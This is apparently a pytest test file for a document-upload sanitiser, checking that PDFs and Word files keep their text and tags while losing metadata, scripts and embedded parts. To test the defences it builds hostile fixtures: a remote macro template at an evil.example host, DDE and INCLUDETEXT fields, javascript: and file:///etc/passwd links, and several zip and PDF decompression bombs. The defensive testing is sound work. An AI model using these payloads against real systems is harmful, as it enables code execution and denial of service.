"""Papers: what helps people read stays, what acts or tells is gone, and a refusal says what to do."""

import base64
import io
import re
import zipfile
import zlib

import docx
import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image

from coproduce.foundation.documents.description import Document, Heading, Paragraph, Table
from coproduce.foundation.documents.pdf import to_pdf
from coproduce.foundation.uploads import papers
from coproduce.foundation.uploads.files import UploadRejected
from coproduce.foundation.uploads.word_fields import is_harmless
from coproduce.foundation.uploads.word_names import WORD_FILE
from tests.foundation import hostile_files as files
from tests.foundation import sounds

pytestmark = pytest.mark.either_engine

DOCUMENT = Document(
    title="Agenda for May",
    issuer="A trust",
    parts=(Heading("First"), Paragraph("Welcome."), Table(("When", "What"), (("10:00", "Hello"),))),
)
MACROS = "This Word file has macros in it. Save it as .docx, without macros, and send that."
UNSETTLED = (
    "This Word file has tracked changes or comments in it. In Word, under Review, accept or reject all"
    " changes and delete all comments. Then save it and send it again."
)
WORD_TOO_BIG = "The Word file is far too big once it is unpacked. Make its pictures smaller, or send a PDF."
PDF_TOO_BIG = "The PDF is far too big once it is unpacked. Save it anew from where it was written."
WORD_BROKEN = "We cannot open this Word file. Save it anew in Word as .docx, or send a PDF."


def cleaned(content: bytes, name: str) -> bytes:
    return papers.clean_paper(SimpleUploadedFile(name, content)).content


def opened(content: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(cleaned(content, "paper.pdf")))


def changed(content: bytes, change) -> bytes:
    """Return a PDF after `change(pdf)`."""
    saved = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        change(pdf)
        pdf.save(saved)
    return saved.getvalue()


def tags_of(pdf: pikepdf.Pdf) -> list[str]:
    kinds = [
        str(one["/S"])
        for one in pdf.objects
        if isinstance(one, pikepdf.Dictionary) and one.get("/Type") == "/StructElem"
    ]
    return sorted(kinds)


def test_a_tagged_pdf_stays_tagged_with_its_title_and_language():
    sent = to_pdf(DOCUMENT)
    before = pikepdf.open(io.BytesIO(sent))
    with opened(sent) as pdf:
        assert tags_of(pdf) == tags_of(before) != []
        assert {"/H1", "/Table", "/TH"} <= set(tags_of(pdf))
        assert bool(pdf.Root.MarkInfo.Marked) is True
        assert (str(pdf.Root.Lang), str(pdf.docinfo["/Title"])) == ("en-GB", "Agenda for May")
        assert "Agenda for May" in pdf.Root.Metadata.read_bytes().decode()
        assert pdf.Root.ViewerPreferences == before.Root.ViewerPreferences


def test_who_wrote_a_pdf_with_what_is_not_in_it():
    def tell(pdf):
        pdf.docinfo["/Author"] = "INFOSECRET"
        with pdf.open_metadata() as about:
            about["dc:creator"] = ["INFOSECRET"]
            about["xmp:CreatorTool"] = "INFOSECRET"

    with opened(changed(to_pdf(DOCUMENT), tell)) as pdf:
        assert set(pdf.docinfo.keys()) == {"/Title"}
        assert b"INFOSECRET" not in pdf.Root.Metadata.read_bytes()


HOSTILE = [
    *(
        files.pdf_with_javascript,
        files.pdf_with_open_action,
        files.pdf_with_launch,
        files.pdf_with_page_action,
    ),
    *(
        files.pdf_with_attachment,
        files.pdf_with_xfa_form,
        files.pdf_in_object_streams,
        files.pdf_with_metadata,
    ),
    *(files.pdf_with_geotagged_photo, files.pdf_with_packed_geotagged_photo, files.pdf_with_external_stream),
    *(files.pdf_after_junk, files.pdf_with_tail),
]


@pytest.mark.parametrize("build", HOSTILE)
def test_nothing_in_a_pdf_acts_or_hides(build):
    content = cleaned(build(), "paper.pdf")
    assert [mark for mark in files.TELLTALES if mark in content and mark != b"xmpmeta"] == []
    assert files.acting_parts(content) == []


def test_links_stay_and_only_safe_ones():
    addresses = [
        "https://example.org/a",
        "mailto:a@example.org",
        "file:///etc/passwd",
        "javascript:app.alert(1)",
    ]

    def link(pdf):
        made = [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address)),
            )
            for address in addresses
        ]  # fmt: skip
        pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(one) for one in made])

    with opened(changed(to_pdf(DOCUMENT), link)) as pdf:
        assert [str(one.A.URI) for one in pdf.pages[0].obj["/Annots"]] == addresses[:2]


def test_tags_do_not_point_to_what_is_gone():
    def note(pdf):
        gone = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents="x"
            )
        )
        pdf.pages[0].obj["/Annots"] = pikepdf.Array([gone])
        first = next(
            one for one in pdf.objects if isinstance(one, pikepdf.Dictionary) and one.get("/S") == "/H1"
        )
        points = pikepdf.Dictionary(Type=pikepdf.Name.OBJR, Obj=gone)
        first["/K"] = (
            pikepdf.Array([*first["/K"], points]) if isinstance(first["/K"], pikepdf.Array) else points
        )

    with opened(changed(to_pdf(DOCUMENT), note)) as pdf:
        assert b"/OBJR" not in b"".join(one.unparse() for one in pdf.objects)


def test_a_paper_may_be_longer_than_a_receipt_up_to_200_pages():
    with opened(files.pdf_with_pages(200)) as pdf:
        assert len(pdf.pages) == 200


def zip_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return saved.getvalue()


def word(change=None) -> bytes:
    """Return a Word file as somebody writes one, after `change(file)`."""
    file = docx.Document()
    file.core_properties.author = "INFOSECRET"
    file.core_properties.last_modified_by = "INFOSECRET"
    file.core_properties.title = "Agenda for May"
    file.add_heading("Agenda", level=1)
    file.add_paragraph("Welcome.")
    table = file.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "When"
    if change:
        change(file)
    saved = io.BytesIO()
    file.save(saved)
    return saved.getvalue()


def with_part(name: str, part: bytes, kind: str, relation: str) -> bytes:
    """Return a Word file with one more part that its text leads to."""
    parts = zip_of(word())
    parts[name] = part
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rId99" Type="{office}/{relation}" Target="{name.removeprefix("word/")}"/></Relationships>'
    path = "word/_rels/document.xml.rels"
    parts[path] = parts[path].replace(b"</Relationships>", one.encode())
    return packed(parts)


def test_a_word_file_keeps_its_headings_its_title_and_its_tables():
    clean = papers.clean_paper(SimpleUploadedFile("Agenda.docx", word()))
    assert (clean.content_type, clean.display_name) == (WORD_FILE, "Agenda.docx")
    file = docx.Document(io.BytesIO(clean.content))
    assert [(one.style.name, one.text) for one in file.paragraphs] == [
        ("Heading 1", "Agenda"),
        ("Normal", "Welcome."),
    ]
    assert file.tables[0].rows[0].cells[0].text == "When"
    assert file.core_properties.title == "Agenda for May"


def test_who_wrote_a_word_file_when_is_not_in_it():
    content = cleaned(word(), "a.docx")
    everything = b"".join(zip_of(content).values())
    assert (b"INFOSECRET" in everything, b"rsid" in everything) == (False, False)
    assert (
        set(zip_of(content)) & {"docProps/app.xml", "docProps/thumbnail.jpeg", "customXml/item1.xml"} == set()
    )
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        assert {one.date_time for one in file.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert content == cleaned(word(), "b.docx")


def test_pictures_in_a_word_file_lose_where_they_were_taken():
    def show(file):
        file.add_picture(
            io.BytesIO(files.saved(files.picture(), "JPEG", exif=files.exif(), comment=b"GPSSECRET"))
        )
        file.add_picture(io.BytesIO(files.png_with_text_and_exif()))

    content = cleaned(word(show), "a.docx")
    pictures = [part for name, part in zip_of(content).items() if "media" in name]
    assert [Image.open(io.BytesIO(one)).size for one in pictures] == [(400, 300)] * 2
    assert [mark for mark in files.TELLTALES for one in pictures if mark in one] == []


def test_embedded_files_and_links_to_other_files_are_gone():
    content = cleaned(
        with_part("word/embeddings/a.bin", b"PK\x03\x04secret.txt", "application/x", "oleObject"), "a.docx"
    )
    assert [name for name in zip_of(content) if "embed" in name] == []
    template = zip_of(word())
    settings = template["word/settings.xml"]
    leads = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId7" TargetMode="External" Target="http://evil.example/t.dotm" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    template["word/_rels/settings.xml.rels"] = leads
    template["word/settings.xml"] = re.sub(
        rb"(<w:zoom)",
        rb'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId7"/>\1',
        settings,
    )
    everything = b"".join(zip_of(cleaned(packed(template), "a.docx")).values())
    assert (b"evil.example" in everything, b"attachedTemplate" in everything) == (False, False)


def field_of(*instructions: str):
    """Return a change that puts a field with an instruction, in several pieces, into a Word file."""

    def put(file):
        run = file.add_paragraph().add_run()._r
        for kind in ("begin", *instructions, "separate"):
            if kind in ("begin", "separate"):
                one = OxmlElement("w:fldChar")
                one.set(qn("w:fldCharType"), kind)
            else:
                one = OxmlElement("w:instrText")
                one.text = kind
            run.append(one)
        run.append(OxmlElement("w:t"))
        run[-1].text = "shown"
        end = OxmlElement("w:fldChar")
        end.set(qn("w:fldCharType"), "end")
        run.append(end)

    return put


def test_a_field_that_runs_something_becomes_the_text_it_shows():
    text = zip_of(cleaned(word(field_of("DDE", "AUTO calc.exe")), "a.docx"))["word/document.xml"]
    assert (b"calc.exe" in text, b"fldChar" in text, b"shown" in text) == (False, False, True)
    text = zip_of(cleaned(word(field_of(" PAGE ")), "a.docx"))["word/document.xml"]
    assert (b" PAGE " in text, b"fldChar" in text) == (True, True)


@pytest.mark.parametrize(
    ("instruction", "harmless"),
    [
        (" PAGE ", True),
        (' HYPERLINK "https://example.org" ', True),
        (' HYPERLINK \\l "below" ', True),
        (' HYPERLINK "file:///c:/a.exe" ', False),
        (' INCLUDETEXT "http://evil.example/a" ', False),
        (" DDEAUTO c calc.exe ", False),
        (" MACROBUTTON Go press ", False),
        ("", True),
    ],
)
def test_which_fields_are_harmless(instruction, harmless):
    assert is_harmless(instruction) is harmless


def tracked(file):
    made = OxmlElement("w:ins")
    made.set(qn("w:author"), "Jo")
    file.paragraphs[0]._p.append(made)


def bomb_of_xml() -> bytes:
    parts = zip_of(word())
    parts["word/document.xml"] += b" " * (21 * 1024**2)
    return packed(parts)


def bomb_of_parts() -> bytes:
    return packed(zip_of(word()) | {f"word/media/{n}.png": bytes(60 * 1024**2) for n in range(2)})


def bomb_under_another_name() -> bytes:
    parts = zip_of(word())
    parts["word/document.bin"] = parts.pop("word/document.xml") + b" " * (21 * 1024**2)
    for name in ("[Content_Types].xml", "_rels/.rels"):
        parts[name] = parts[name].replace(b"word/document.xml", b"word/document.bin")
    parts["word/_rels/document.bin.rels"] = parts.pop("word/_rels/document.xml.rels")
    return packed(parts)


def pdf_bomb_packed_twice(outer: str, pack) -> bytes:
    """A page whose words are deflated, and packed once more in a way that hides it."""
    pdf = pikepdf.open(io.BytesIO(to_pdf(DOCUMENT)))
    stream = pdf.make_stream(b"")
    names = pikepdf.Array([pikepdf.Name(outer), pikepdf.Name.FlateDecode])
    stream.write(pack(zlib.compress(b" " * (101 * 1024**2))), filter=names)
    pdf.pages[0].obj["/Contents"] = stream
    saved = io.BytesIO()
    pdf.save(saved, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return saved.getvalue()


def pdf_bomb_in_hex() -> bytes:
    return pdf_bomb_packed_twice("/ASCIIHexDecode", lambda data: data.hex().encode() + b">")


def pdf_bomb_in_base_85() -> bytes:
    return pdf_bomb_packed_twice("/ASCII85Decode", lambda data: base64.a85encode(data) + b"~>")


def parts_without_an_end() -> bytes:
    parts = zip_of(word())
    header = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    leads = parts["word/_rels/document.xml.rels"]
    head = leads[: leads.index(b"<Relationship ")]
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    for n in range(400):
        one = b'<Relationship Id="r" Type="%s" Target="h%d.xml"/></Relationships>' % (office, n + 1)
        parts[f"word/h{n}.xml"], parts[f"word/_rels/h{n}.xml.rels"] = header, head + one
    first = b'<Relationship Id="r" Type="%s" Target="h0.xml"/></Relationships>' % office
    parts["word/_rels/document.xml.rels"] = leads.replace(b"</Relationships>", first)
    return packed(parts)


def many_parts() -> bytes:
    return packed(zip_of(word()) | {f"word/media/{n}.png": b"" for n in range(1001)})


def doctype() -> bytes:
    parts = zip_of(word())
    xml = parts["word/document.xml"]
    parts["word/document.xml"] = xml.replace(b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document', 1)
    return packed(parts)


def long_word() -> bytes:
    parts = zip_of(word())
    parts["docProps/app.xml"] = b'<Properties xmlns="x"><Pages>201</Pages></Properties>'
    return packed(parts)


def pdf_bomb_of_text() -> bytes:
    def swell(pdf):
        pdf.pages[0].obj["/Contents"] = pdf.make_stream(b" " * (101 * 1024**2))

    return changed(to_pdf(DOCUMENT), swell)


VBA = ("word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject", "vbaProject")
COMMENTS = (
    "word/comments.xml",
    b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="0"/></w:comments>',
    "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
    "comments",
)
REFUSED = [
    pytest.param(lambda: with_part(*VBA), "a.docx", MACROS, id="macros"),
    pytest.param(files.office_zip, "a.docm", MACROS, id="docm"),
    pytest.param(lambda: word(tracked), "a.docx", UNSETTLED, id="tracked"),
    pytest.param(lambda: with_part(*COMMENTS), "a.docx", UNSETTLED, id="comments"),
    pytest.param(files.office_zip, "a.docx", WORD_BROKEN, id="no-Word-file"),
    pytest.param(doctype, "a.docx", WORD_BROKEN, id="DOCTYPE"),
    pytest.param(bomb_of_xml, "a.docx", WORD_TOO_BIG, id="bomb-of-XML"),
    pytest.param(bomb_of_parts, "a.docx", WORD_TOO_BIG, id="bomb-of-parts"),
    pytest.param(bomb_under_another_name, "a.docx", WORD_TOO_BIG, id="bomb-under-another-name"),
    pytest.param(parts_without_an_end, "a.docx", WORD_BROKEN, id="parts-without-an-end"),
    pytest.param(many_parts, "a.docx", WORD_TOO_BIG, id="many-parts"),
    pytest.param(
        long_word,
        "a.docx",
        "The Word file has too many pages. Send up to 200 pages, or send it in parts.",
        id="long-Word",
    ),
    pytest.param(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "a.docx",
        "This is an old Word file, or it has a password. Save it as .docx, without a password.",
        id="old-or-locked-Word",
    ),
    pytest.param(files.pdf_bomb, "a.pdf", PDF_TOO_BIG, id="object-stream-bomb"),
    pytest.param(pdf_bomb_of_text, "a.pdf", PDF_TOO_BIG, id="bomb-of-text"),
    pytest.param(pdf_bomb_in_hex, "a.pdf", PDF_TOO_BIG, id="bomb-in-hex"),
    pytest.param(pdf_bomb_in_base_85, "a.pdf", PDF_TOO_BIG, id="bomb-in-base-85"),
    pytest.param(
        lambda: files.pdf_with_pages(201),
        "a.pdf",
        "The PDF has too many pages. Send up to 200 pages, or send it in parts.",
        id="201-pages",
    ),
    pytest.param(
        files.pdf_with_password, "a.pdf", "The PDF has a password. Send a copy without it.", id="locked"
    ),
    pytest.param(
        files.broken_pdf,
        "a.pdf",
        "We cannot open this PDF. Save it anew from where it was written, then send that.",
        id="broken",
    ),
    pytest.param(
        files.executable,
        "a.exe",
        "We cannot take this kind of file. Send a Word file (.docx), a PDF, plain text, a recording "
        "(MP3 or M4A) or a photo.",
        id="exe",
    ),
    pytest.param(
        lambda: b"MZ nothing to hear" * 9,
        "a.mp3",
        "We cannot read this sound. Save it as MP3 and send that.",
        id="no-sound",
    ),
]


@pytest.mark.parametrize(("build", "name", "message"), REFUSED)
def test_what_cannot_be_cleaned_is_refused_with_what_to_do(build, name, message):
    with pytest.raises(UploadRejected) as refused:
        cleaned(build(), name)
    assert str(refused.value) == message


def test_plain_text_and_sound_lose_what_stands_around_them():
    assert cleaned("\ufeffHello\x00 – caf\u00e9\r\n".encode(), "a.txt") == "Hello – café".encode()
    assert cleaned(b"Caf\xe9", "a.txt") == "Café".encode()
    sound = sounds.mp3()
    tagged = b"ID3\x04\x00\x00" + bytes([0, 0, 0, 9]) + b"INFOSECRE" + sound + b"TAG" + bytes(125)
    clean = papers.clean_paper(SimpleUploadedFile("a.mp3", tagged))
    assert (clean.content, clean.content_type, clean.display_name) == (sound, "audio/mpeg", "a.mp3")
    clean = papers.clean_paper(SimpleUploadedFile("New Recording 7.m4a", sounds.m4a()))
    assert (clean.content_type, clean.display_name) == ("audio/mp4", "New Recording 7.m4a")
    assert sounds.SECRET not in clean.content


def test_a_photo_of_a_page_is_taken_as_before():
    clean = papers.clean_paper(SimpleUploadedFile("a.jpg", files.photo()))
    assert clean.content_type == "image/jpeg"
